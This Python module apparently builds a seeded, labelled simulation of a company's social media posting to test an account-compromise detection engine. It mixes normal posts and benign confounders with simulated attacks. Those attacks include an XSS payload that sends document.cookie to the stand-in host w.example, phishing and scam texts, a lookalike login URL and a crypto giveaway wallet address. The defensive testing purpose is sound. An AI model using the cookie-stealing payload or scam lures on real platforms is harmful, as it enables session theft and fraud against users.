"""A small labelled organisation for engine tests: weeks of normal posting, then attacks and
confounders (legitimate but unusual activity that must not freeze anything).

Deterministic (seeded). ``build()`` returns the inventory, the time-ordered events and the
labels: for each attack the accounts and event ids, and the ids of confounder events.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

from sentinel.inventory import parse_inventory

OWN = ["acme.example.com", "shop.acme.example.com"]
OWN_DOMAINS = ["acmecorp.com", "shop.acmecorp.com", "acme.link"]
NEWS = ["bbc.co.uk", "reuters.com", "github.com", "medium.com", "nytimes.com"]
TEXTS = [
    "Our team shares the weekly product update",
    "Thanks to everyone who joined our webinar",
    "Read how we cut our energy use in half",
    "Meet the people behind our support desk",
    "New release notes are live for the app",
    "Customer story: how a bakery runs on our tools",
    "Tips for getting more out of your dashboard",
]
REPLIES = [
    "Sorry about that! Please DM us your order number.",
    "Thanks for flagging, our team is looking into it.",
    "A restart usually fixes this, let us know if not.",
]
# id, platform, publishing, timezone, client, owners
ACCOUNTS = [
    ("acme-brand-x", "x", "gated", "America/New_York", "Sprinklr", ["op-lead", "op-b", "op-c"]),
    ("acme-brand-li", "linkedin", "gated", "America/New_York", "Hootsuite", ["op-lead", "op-b"]),
    ("acme-brand-ig", "instagram", "open", "America/New_York", "Later", ["op-lead", "op-d"]),
    ("acme-eu-x", "x", "gated", "Europe/Berlin", "Sprinklr", ["op-lead", "op-e"]),
    ("acme-eu-fb", "facebook", "gated", "Europe/Berlin", "Buffer", ["op-lead", "op-e", "op-f"]),
    ("acme-jp-x", "x", "open", "Asia/Tokyo", "Twitter Web App", ["op-lead", "op-g"]),
    ("acme-support-x", "x", "gated", "Europe/London", "Sprinklr", ["op-s1", "op-s2", "op-lead"]),
    ("acme-support-bsky", "bluesky", "open", "America/New_York", "bsky.app", ["op-s1", "op-s2"]),
    ("acme-events-x", "x", "open", "America/Chicago", "Buffer", ["op-lead", "op-h"]),
    ("acme-news-masto", "mastodon", "gated", "America/New_York", "Later", ["op-lead", "op-c"]),
    ("acme-careers-li", "linkedin", "open", "Europe/London", "Hootsuite", ["op-lead", "op-f"]),
    ("acme-au-fb", "facebook", "gated", "Australia/Sydney", "Buffer", ["op-lead", "op-i"]),
]
IPS = {
    f"op-{x}": f"198.51.100.{10 + i}"
    for i, x in enumerate(["lead", "b", "c", "d", "e", "f", "g", "h", "i", "s1", "s2"])
}
IPS["op-lead"] = "198.51.100.10"


@dataclass
class Org:
    inventory_toml: str
    events: list[dict[str, Any]]
    attacks: dict[str, dict[str, Any]] = field(default_factory=dict)
    confounders: dict[str, list[str]] = field(default_factory=dict)

    @property
    def inventory(self) -> Any:
        import tomllib

        return parse_inventory(tomllib.loads(self.inventory_toml), "orgsim")


class _Gen:
    def __init__(self, seed: int) -> None:
        self.rnd = random.Random(seed)
        self.events: list[dict[str, Any]] = []
        self.n = 0

    def post(
        self,
        when: datetime,
        acc: tuple[Any, ...],
        text: str,
        author: str | None = None,
        client: str | None = None,
        ip: str | None = None,
        via: str | None = None,
        reply: bool = False,
    ) -> list[str]:
        aid, platform, publishing, _tz, usual_client, owners = acc
        client = client or usual_client
        self.n += 1
        pid = f"{platform}:{self.n:08x}"
        ids = []
        ts = when.astimezone(UTC)
        gated = publishing == "gated" if via is None else via == "gate"
        if gated:
            author = author or self.rnd.choice(owners)
            ev = {
                "id": f"g{self.n}",
                "ts": ts.strftime("%Y-%m-%dT%H:%M:%SZ"),
                "account": aid,
                "via": "gate",
                "text": text,
                "author": author,
                "client": client,
                "ip": ip or IPS.get(author, "198.51.100.99"),
                "post_id": pid,
            }
            if reply:
                ev["reply_to"] = f"{platform}:r{self.n}"
            self.events.append(ev)
            ids.append(ev["id"])
            ts = ts + timedelta(seconds=self.rnd.randint(2, 25))
        ev = {
            "id": f"o{self.n}",
            "ts": ts.strftime("%Y-%m-%dT%H:%M:%SZ"),
            "account": aid,
            "via": "observed",
            "text": text,
            "client": client,
            "post_id": pid,
        }
        self.events.append(ev)
        ids.append(ev["id"])
        return ids


def _local(day: datetime, tz: str, hour: int, minute: int) -> datetime:
    z = ZoneInfo(tz)
    return datetime(day.year, day.month, day.day, hour, minute, tzinfo=z)


def build(seed: int = 7, weeks: int = 6) -> Org:
    g = _Gen(seed)
    rnd = g.rnd
    start = datetime(2026, 2, 2)  # a Monday
    attack_day = start + timedelta(days=7 * weeks)
    by_id = {a[0]: a for a in ACCOUNTS}
    # normal posting: weekdays mostly 08-18 local, some weekend posts, support replies
    for d in range((attack_day - start).days + 7):
        day = start + timedelta(days=d)
        for acc in ACCOUNTS:
            aid, tz = acc[0], acc[3]
            support = "support" in aid
            n = rnd.randint(3, 6) if support else rnd.randint(0, 2)
            if day.weekday() >= 5:
                n = n // 3
            for _ in range(n):
                when = _local(day, tz, rnd.randint(8, 17), rnd.randint(0, 59))
                if support:
                    g.post(when, acc, f"@user{rnd.randint(100, 99999)} {rnd.choice(REPLIES)}", reply=True)
                else:
                    link = rnd.choice(
                        [f"https://{rnd.choice(OWN_DOMAINS)}/p/{rnd.randint(1, 999)}"] * 3
                        + [f"https://{rnd.choice(NEWS)}/story-{rnd.randint(1, 999)}", ""]
                    )
                    g.post(when, acc, f"{rnd.choice(TEXTS)}. {link}".strip())
    org = Org(inventory_toml="", events=[])
    a = attack_day
    # --- attacks --------------------------------------------------------------------------
    # 1. out-of-band fake announcement on a gated account from a browser session
    acc = by_id["acme-brand-x"]
    ids = []
    for i in range(3):
        ids += g.post(
            _local(a, acc[3], 14, 5 + 7 * i),
            acc,
            "BREAKING: Acme is being acquired, all stores close Friday.",
            client="Twitter Web App",
            via="observed",
        )
    org.attacks["oob-announcement"] = {"accounts": [acc[0]], "events": ids}
    # 2. stolen operator login used through the gate: new IP, 3 am, lookalike login page
    acc = by_id["acme-eu-fb"]
    ids = []
    for i in range(3):
        ids += g.post(
            _local(a + timedelta(days=1), acc[3], 3, 10 + 9 * i),
            acc,
            "Security notice: please confirm your details at https://acmecorp-support-login.com/verify",
            author="op-e",
            ip="203.0.113.200",
        )
    org.attacks["stolen-operator"] = {"accounts": [acc[0]], "events": ids}
    # 3. crypto giveaway across four accounts, published directly on the platforms
    ids = []
    targets = [by_id[x] for x in ("acme-jp-x", "acme-news-masto", "acme-careers-li", "acme-au-fb")]
    t0 = _local(a + timedelta(days=2), "UTC", 19, 0)
    for i, acc in enumerate(targets):
        for j in range(2):
            ids += g.post(
                t0 + timedelta(minutes=6 * i + 3 * j),
                acc,
                "To celebrate, we send back double any ETH sent to 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed",
                client="Web",
                via="observed",
            )
    org.attacks["crypto-campaign"] = {"accounts": [x[0] for x in targets], "events": ids}
    # 4. self-spreading script through the publishing tool
    ids = []
    t0 = _local(a + timedelta(days=3), "UTC", 15, 0)
    worm = [by_id[x] for x in ("acme-brand-li", "acme-eu-x", "acme-support-x")]
    for i, acc in enumerate(worm):
        ids += g.post(
            t0 + timedelta(seconds=20 * i),
            acc,
            "<img src=x onerror=\"document.location='//w.example/'+document.cookie\">",
            author="op-lead",
        )
    org.attacks["tool-worm"] = {"accounts": [x[0] for x in worm], "events": ids}
    # 5. open account taken over: new phone app, scam links every two minutes
    acc = by_id["acme-brand-ig"]
    ids = []
    t0 = _local(a + timedelta(days=4), acc[3], 22, 0)
    for i in range(8):
        text = rnd.choice(
            [
                "you have won a free gift card, claim now https://tinyurl.com/x" + str(i),
                "giveaway ends soon http://prize-acme.top/claim",
            ]
        )
        ids += g.post(t0 + timedelta(minutes=2 * i), acc, text, client="Twitter for Android")
    org.attacks["open-takeover"] = {"accounts": [acc[0]], "events": ids}
    # --- confounders ----------------------------------------------------------------------
    conf: dict[str, list[str]] = {}
    t0 = _local(a + timedelta(days=1), "America/New_York", 11, 0)
    ids = []
    for i, acc in enumerate(ACCOUNTS):
        if "support" in acc[0]:
            continue
        ids += g.post(
            t0 + timedelta(seconds=25 * i),
            acc,
            "Introducing Acme Nova: faster, lighter, yours. https://acmecorp.com/nova",
            author="op-lead",
        )
    conf["coordinated-launch"] = ids
    acc = by_id["acme-news-masto"]
    conf["night-crisis"] = g.post(
        _local(a + timedelta(days=2), acc[3], 1, 40),
        acc,
        "Statement on tonight's outage: https://acmecorp.com/statement",
        author="op-c",
    )
    acc = by_id["acme-events-x"]
    ids = []
    t0 = _local(a + timedelta(days=3), acc[3], 9, 0)
    for i in range(20):
        ids += g.post(
            t0 + timedelta(minutes=6 * i),
            acc,
            f"Live from Acme Summit: {rnd.choice(['keynote', 'demo', 'panel'])} on stage now https://acmecorp.com/live",
        )
    conf["live-event"] = ids
    ids = []
    for i, aid in enumerate(("acme-brand-x", "acme-eu-x", "acme-au-fb")):
        acc = by_id[aid]
        ids += g.post(
            _local(a + timedelta(days=5), acc[3], 10 + i, 15),
            acc,
            "Acme Fest tickets are on sale: https://acmefest2026.com/tickets",
            author="op-lead",
        )
    conf["new-campaign-domain"] = ids
    acc = by_id["acme-support-x"]
    ids = []
    for i in range(4):
        ids += g.post(
            _local(a + timedelta(days=5), acc[3], 10 + i, 30),
            acc,
            f"@user{rnd.randint(100, 999)} Hi, I'm new here and happy to help. Could you DM us the details?",
            author="op-newhire",
            ip="198.51.100.77",
            reply=True,
        )
    conf["new-hire"] = ids
    acc = by_id["acme-jp-x"]
    conf["mobile-at-venue"] = g.post(
        _local(a + timedelta(days=4), acc[3], 18, 5),
        acc,
        "What a day, thank you all for coming! https://acmecorp.com/recap",
        client="Twitter for iPhone",
    )
    org.confounders = conf
    # --- attacks of the kinds no single threshold catches (after the confounders, so that
    # adding them changed none of the random draws above) ------------------------------------
    # 6. one template through the gate every 30 s by the usual operator and address, each copy
    #    linking a freshly registered domain
    acc = by_id["acme-brand-li"]
    ids = []
    t0 = _local(a + timedelta(days=6), acc[3], 14, 0)
    for i, domain in enumerate(("members-sale7.shop", "vip-outlet2.net", "deal-drop9.store", "acme-off.biz")):
        ids += g.post(
            t0 + timedelta(seconds=30 * i),
            acc,
            f"Members-only sale ends in 60 minutes, shop now: https://{domain}/acme",
            author="op-b",
        )
    org.attacks["rotating-links"] = {"accounts": [acc[0]], "events": ids}
    # 7. one defacement through the gate with an operator's stolen login, at night, new address;
    # 8. a single free-NFT lure on an open account at an odd hour
    singles: list[tuple[str, str, int, str, dict[str, str]]] = [
        (
            "defacement-gate",
            "acme-eu-x",
            2,
            "pwned by the Gh0st Crew lol. Acme, your security was a joke all along",
            {"author": "op-e", "ip": "192.0.2.66"},
        ),
        (
            "nft-lure",
            "acme-support-bsky",
            3,
            "Claim your free commemorative Acme NFT, first 500 fans only: https://acme-collectibles.io/mint",
            {},
        ),
    ]
    for name, aid, hour, text, source in singles:
        acc = by_id[aid]
        ids = g.post(_local(a + timedelta(days=6), acc[3], hour, 30), acc, text, **source)
        org.attacks[name] = {"accounts": [aid], "events": ids}
    org.events = sorted(g.events, key=lambda e: (e["ts"], e["id"][0] != "g"))
    lines = []
    for aid, platform, publishing, tz, _client, owners in ACCOUNTS:
        lines += [
            "[[accounts]]",
            f'id = "{aid}"',
            f'platform = "{platform}"',
            f'handle = "@{aid}"',
            f'timezone = "{tz}"',
            f'publishing = "{publishing}"',
            f"owners = {owners!r}".replace("'", '"'),
            f"domains = {OWN_DOMAINS!r}".replace("'", '"'),
            "",
        ]
    org.inventory_toml = "\n".join(lines)
    return org
